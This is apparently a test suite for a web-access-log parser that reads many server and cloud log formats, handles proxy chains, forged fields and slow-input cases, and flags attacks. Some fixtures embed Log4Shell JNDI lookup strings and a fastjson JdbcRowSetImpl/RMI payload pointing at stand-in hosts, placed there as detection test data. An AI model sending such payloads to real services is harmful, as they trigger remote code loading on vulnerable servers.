// biome-ignore-all lint/suspicious/noTemplateCurlyInString: layouts of nginx and attackers write such texts
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import { assertGrowsLinearly } from '../../../test/growth.ts'
import { intelWith } from '../../../test/intel-with.ts'
import type { AccessLayout } from '../../core/log-format.ts'
import { logFormats } from './index.ts'
import { anyAccess, webLayout } from './web-layout.ts'

const { patches } = intelWith()
const nginx = (layout: string): AccessLayout => ({ server: 'nginx', layout })
const apache = (layout: string): AccessLayout => ({ server: 'apache', layout })
const at = Date.UTC(2026, 10, 21, 16, 48, 13)
const drafts = (layouts: readonly AccessLayout[], ...lines: readonly string[]) => {
  const reader = webLayout.open({ path: '/x', user: '', patches, layouts })
  return lines.flatMap(line => [...reader.line(line)])
}

describe('lines of products, by what they look like', () => {
  const lines: Readonly<Record<string, string>> = {
    'AWS ALB':
      'https 2026-11-21T16:48:13.365219Z app/prod-lb/07574303dea2a57e 203.0.113.9:49660 10.1.2.61:6081 0.001 0.917 0.000 201 200 303 47162 "POST https://shop.example.com:443/api/x?y=1 HTTP/1.1" "curl/8.5.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:eu-west-1:1:targetgroup/t/1 "Root=1-5a4fbd" "shop.example.com" "session-reused" 0 2026-11-21T16:48:12.447000Z "forward" "-" "-" "10.1.2.61:6081" "200" "-" "-" TID_1',
    'AWS ELB':
      '2026-11-21T16:48:13.365219Z prod 203.0.113.9:2817 10.0.0.1:80 0.00007 0.001 0.00005 201 200 0 29 "POST http://shop.example.com:80/api/x?y=1 HTTP/1.1" "curl/8.5.0" - -',
    'Tencent CLB':
      '[8b1f] [22/Nov/2026:00:48:13 +0800] [HTTP] [198.51.100.7:80] [shop.example.com] [203.0.113.9:50123] [201] [10.0.0.8:80] [200] [1_lb-1] [POST /api/x?y=1 HTTP/1.1] [140] [312] [shop.example.com] [curl/8.5.0] [-] [0.004] [0.004] [0.001] [0.004] [1200] [881] [1] [-] [-] [-] [1] [/api/x] [HTTP/1.1]',
    APISIX:
      '203.0.113.9 - - [22/Nov/2026:00:48:13 +0800] shop.example.com "POST /api/x?y=1 HTTP/1.1" 201 312 0.004 "-" "curl/8.5.0" 10.0.0.8:80 200 0.004 "http://shop.example.com"',
    Tengine:
      '203.0.113.9 312 0.004 [22/Nov/2026:00:48:13 +0800] "POST http://shop.example.com/api/x?y=1" 201 140 "-" "curl/8.5.0" "203.0.113.9"',
    'divided by bars': '2026-11-22T00:48:13+08:00|203.0.113.9|-|POST|shop.example.com|/api/x?y=1|HTTP/1.1|201|312|0.004|curl/8.5.0|-',
    'divided by tabs': '203.0.113.9\t22/Nov/2026:00:48:13 +0800\tPOST\t/api/x?y=1\t201\t312\t-\tcurl/8.5.0',
    'key=value':
      'time=2026-11-22T00:48:13+08:00 remote_addr=203.0.113.9 method=POST uri="/api/x?y=1" status=201 body_bytes_sent=312 http_user_agent="curl/8.5.0" request_time=0.004',
    'Heroku and logfmt':
      'time="2026-11-21T16:48:13Z" at=info method=POST path="/api/x?y=1" host=shop.example.com client_ip=203.0.113.9 status=201 bytes=312 protocol=https',
    'the time last': '203.0.113.9 "POST /api/x?y=1 HTTP/1.1" 201 312 "-" "curl/8.5.0" [22/Nov/2026:00:48:13 +0800]',
    'Gunicorn and Uvicorn': '2026-11-22 00:48:13 +0800 INFO: 203.0.113.9:50123 - "POST /api/x?y=1 HTTP/1.1" 201 Created',
    Gin: '[GIN] 2026/11/21 - 16:48:13 | 201 |    1.2ms |     203.0.113.9 | POST     "/api/x?y=1"',
    Cloudflare: JSON.stringify({
      ClientIP: '203.0.113.9',
      ClientRequestMethod: 'POST',
      ClientRequestURI: '/api/x?y=1',
      EdgeResponseStatus: 201,
      EdgeStartTimestamp: '2026-11-21T16:48:13Z',
    }),
    Kong: JSON.stringify({
      client_ip: '203.0.113.9',
      request: { method: 'POST', uri: '/api/x?y=1', url: 'http://a:8000/api/x?y=1', headers: { 'user-agent': 'curl/8.5.0' } },
      response: { status: 201, size: '312' },
      started_at: at,
    }),
    'ECS of Elastic': JSON.stringify({
      '@timestamp': '2026-11-21T16:48:13.000Z',
      source: { ip: '203.0.113.9' },
      http: { request: { method: 'POST' }, response: { status_code: 201 } },
      url: { original: '/api/x?y=1' },
    }),
    'AWS WAF': JSON.stringify({
      timestamp: at,
      status: 201,
      httpRequest: { clientIp: '203.0.113.9', uri: '/api/x', args: 'y=1', httpMethod: 'POST' },
    }),
    'Google load balancer': JSON.stringify({
      timestamp: '2026-11-21T16:48:13Z',
      httpRequest: { requestMethod: 'POST', requestUrl: 'https://a/api/x?y=1', status: 201, remoteIp: '203.0.113.9' },
    }),
    'Alibaba SLB': JSON.stringify({
      client_ip: '203.0.113.9',
      request_method: 'POST',
      request_uri: '/api/x?y=1',
      status: '201',
      time: '2026-11-22T00:48:13+08:00',
    }),
  }
  for (const [name, line] of Object.entries(lines))
    test(name, () => {
      const one = anyAccess()(line)
      assert.deepEqual(
        [one?.method, one?.target.replace(/^https?:\/\/[^/]+/, ''), one?.status, one?.address],
        ['POST', '/api/x?y=1', 201, '203.0.113.9'],
      )
      // Gin writes the host's own time, with a dash where others have a blank.
      if (name !== 'Gin') assert.equal(Math.floor((one?.time?.ms ?? 0) / 1000) * 1000, at)
    })
})

test('what the configuration says is believed before anything else', () => {
  const own = nginx('$status,$request_time,$remote_addr,"$request",$body_bytes_sent,"$http_user_agent","$request_body",$msec')
  const [one] = drafts([own], '200,0.1,203.0.113.9,"POST /api/login HTTP/1.1",77,"curl/8","a=1",1795279693.524')
  assert.deepEqual(
    [one?.verb, one?.address, one?.status, one?.bytes, one?.request, one?.time?.ms],
    ['request', '203.0.113.9', 200, 77, 'POST /api/login', at + 524],
  )
  const head = '200,0.1,203.0.113.9,"POST /api/login HTTP/1.1",77,"curl/8","a=1",1795279693.524\n'
  assert.ok(webLayout.recognise(head, 'x', [own]) > 0.95)
  const letters = apache('%a\t%{%F %T}t\t%m\t%U%q\t%>s\t%B\t%{User-Agent}i\t%{X-Api-Version}i')
  const [two] = drafts([letters], '203.0.113.9\t2026-11-22 00:48:13\tPUT\t/a\t201\t0\tcurl/8\t${jndi:ldap://203.0.113.8/a}')
  assert.deepEqual([two?.verb, two?.attack, two?.address], ['exploit', 'log4shell', '203.0.113.9'])
})

test('JSON under keys of their own, also where nginx escaped for another kind of log', () => {
  const own = nginx('{"when":"$time_iso8601","who":"$remote_addr","what":"$request","answer":$status,"agent":"$http_user_agent"}')
  const [one] = drafts(
    [own],
    '{"when":"2026-11-22T00:48:13+08:00","who":"203.0.113.9","what":"GET /?x=${jndi:ldap://198.51.100.7/\\x22a} HTTP/1.1","answer":404,"agent":"x"}',
  )
  assert.deepEqual([one?.verb, one?.attack, one?.address, one?.status, one?.time?.ms], ['exploit', 'log4shell', '203.0.113.9', 404, at])
})

test('bodies that are logged are looked at', () => {
  const own = nginx('$remote_addr [$time_local] "$request" $status "$request_body"')
  const [one] = drafts(
    [own],
    '203.0.113.9 [22/Nov/2026:00:48:13 +0800] "POST /api HTTP/1.1" 200 "{\\x22@type\\x22:\\x22com.sun.rowset.JdbcRowSetImpl\\x22,\\x22dataSourceName\\x22:\\x22rmi://198.51.100.7/a\\x22}"',
  )
  assert.deepEqual([one?.verb, one?.attack], ['exploit', 'fastjson-autotype'])
})

test("who asked, behind proxies of one's own: the last from outside; what a client names himself does not count", () => {
  const of = (peer: string, forwarded: string) =>
    anyAccess()(`${peer} - - [22/Nov/2026:00:48:13 +0800] "POST /x HTTP/1.1" 200 1 "-" "curl/8" "${forwarded}"`)?.address
  assert.equal(of('10.0.0.2', '198.51.100.99, 203.0.113.9, 10.0.0.1'), '203.0.113.9')
  assert.equal(of('203.0.113.9', '127.0.0.1, 198.51.100.99'), '203.0.113.9')
  assert.equal(of('10.0.0.2', '-'), '10.0.0.2')
  assert.equal(of('10.0.0.2', 'unknown'), '10.0.0.2')
})

describe('forged fields', () => {
  test('a divider inside of the address that was asked for names nobody else', () => {
    const own = nginx('$time_iso8601|$request_method|$request_uri|$status|$remote_addr')
    const forged = '2026-11-22T00:48:13+08:00|POST|/x|200|198.51.100.99|404|203.0.113.9'
    const [one] = drafts([own], forged)
    assert.notEqual(one?.address, '198.51.100.99')
  })
  test('an agent that looks like a request stays an agent', () => {
    const line = '203.0.113.9 [22/Nov/2026:00:48:13 +0800] "GET / HTTP/1.1" 200 "\\x22 198.51.100.99 \\x22POST /x HTTP/1.1\\x22 500"'
    assert.deepEqual([anyAccess()(line)?.method, anyAccess()(line)?.status], ['GET', 200])
  })
})

test('near misses: lines that are no requests', () => {
  for (const line of [
    '2026-11-22 00:48:13 INFO [main] o.s.w.s.DispatcherServlet : Completed initialization in 200 ms',
    'Nov 22 00:48:13 web sshd[7]: Accepted password for root from 192.0.2.7 port 50123 ssh2',
    '2026-11-22T00:48:13Z GET READY 200',
    'time="2026-11-22T00:48:13Z" level=info msg="Starting up" code=200 path=/x a=1 b=2 c=3',
    '{"level":"info","status":200,"path":"/x"}',
    'POST /x',
    '',
  ])
    assert.equal(anyAccess()(line), undefined, line)
})

test('a log of common form is left to the quicker reader, and one of another form is not', () => {
  const common = '203.0.113.9 - - [22/Nov/2026:00:48:13 +0800] "GET / HTTP/1.1" 200 612 "-" "curl/8.5.0"\n'.repeat(3)
  const main = nginx(
    '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent" "$http_x_forwarded_for"',
  )
  const best = (head: string, layouts: readonly AccessLayout[]) =>
    logFormats.map(f => ({ id: f.id, like: f.recognise(head, 'access.log', layouts) })).sort((a, b) => b.like - a.like)[0]?.id
  assert.equal(best(common, [main]), 'web-access')
  assert.equal(best('203.0.113.9|POST|/x|200|1|2|22/Nov/2026:00:48:13 +0800\n'.repeat(3), []), 'web-layout')
})

test('property: any layout and any line: no throw, and an answer within bounds', () => {
  const part = fc.constantFrom(
    '$remote_addr',
    '$request',
    '$status',
    '$time_local',
    '$request_uri',
    '$request_method',
    '$http_x_forwarded_for',
    '%h',
    '%r',
    '%>s',
    '"',
    ' ',
    '|',
    '[',
    '(',
    '\\',
    '{',
    'x',
  )
  fc.assert(
    fc.property(fc.array(part, { maxLength: 30 }), fc.string({ maxLength: 400 }), fc.boolean(), (parts, line, isNginx) => {
      const layout = parts.join('')
      for (const draft of drafts([isNginx ? nginx(layout) : apache(layout)], line, layout)) assert.ok((draft.status ?? 200) <= 599)
    }),
  )
})

test('lines and layouts that somebody made to take long do not', () => {
  const lists = nginx('$http_x_forwarded_for $upstream_addr $upstream_status $remote_addr [$time_local] $request $status')
  const endless = nginx(`${'$http_x_forwarded_for '.repeat(60)}$request $status`)
  for (const part of ['\\"', '"', 'a, ', 'a=b ', '|GET|/|200', '1.1.1.1 ', '"POST /x HTTP/1.1" '])
    assertGrowsLinearly(size => drafts([lists, endless], part.repeat(size)), 200, part)
  const behind = (tail: string) => `10.0.0.2 - - [22/Nov/2026:00:48:13 +0800] "POST / HTTP/1.1" 200 1 "-" "x" "${tail}`
  assertGrowsLinearly(size => drafts([], behind('a'.repeat(size))), 200, 'addresses')
})
